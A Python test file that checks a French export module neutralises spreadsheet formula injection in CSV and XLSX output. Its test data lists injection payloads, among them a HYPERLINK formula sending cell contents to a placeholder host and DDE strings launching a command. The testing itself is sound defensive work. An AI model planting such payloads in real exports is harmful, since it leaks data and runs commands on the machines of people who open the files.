"""Exports read back: text a spreadsheet would evaluate stays text, numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from cper.tableurs import neutraliser_formule
from gouvernance.exports import ENTIER, EUROS, TEXTE, Tableau, en_csv, en_xlsx

HOSTILES = [
    '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("texte", HOSTILES)
def test_un_debut_de_formule_est_prefixe(texte):
    assert neutraliser_formule(texte) == "'" + texte


@pytest.mark.parametrize(
    "valeur", ["Commune de Douai", "", "1 000 €", "a=b", Decimal("-5"), -3, 2.5]
)
def test_le_reste_est_inchange(valeur):
    assert neutraliser_formule(valeur) == valeur


def _tableau():
    return Tableau(
        code="essai",
        titre="Essai",
        colonnes=[("Intitulé", TEXTE), ("Dossiers", ENTIER), ("Reste (€)", EUROS)],
        lignes=[[texte, -1, Decimal("-1250.50")] for texte in HOSTILES]
        + [["Pôle d'échanges", 3, Decimal("0")]],
    )


def test_le_csv_ne_contient_aucune_formule_et_garde_les_montants_negatifs():
    contenu = en_csv(_tableau()).decode("utf-8-sig")
    lignes = list(csv.reader(io.StringIO(contenu, newline=""), delimiter=";"))[1:]
    assert [ligne[0] for ligne in lignes] == ["'" + t for t in HOSTILES] + ["Pôle d'échanges"]
    assert all(ligne[1:] == ["-1", "-1250,50"] for ligne in lignes[:-1])


def test_le_xlsx_ne_contient_aucune_formule_et_garde_les_nombres():
    feuille = load_workbook(io.BytesIO(en_xlsx(_tableau()))).active
    lignes = list(feuille.iter_rows(min_row=2))
    # XML reads a carriage return back as a line feed.
    attendus = ["'" + t.replace("\r", "\n") for t in HOSTILES] + ["Pôle d'échanges"]
    assert [ligne[0].value for ligne in lignes] == attendus
    assert all(ligne[0].data_type == "s" for ligne in lignes)
    assert all(ligne[1].value == -1 and ligne[1].data_type == "n" for ligne in lignes[:-1])
    assert all(Decimal(str(ligne[2].value)) == Decimal("-1250.50") for ligne in lignes[:-1])
    assert lignes[0][2].number_format == '#,##0.00" €"'
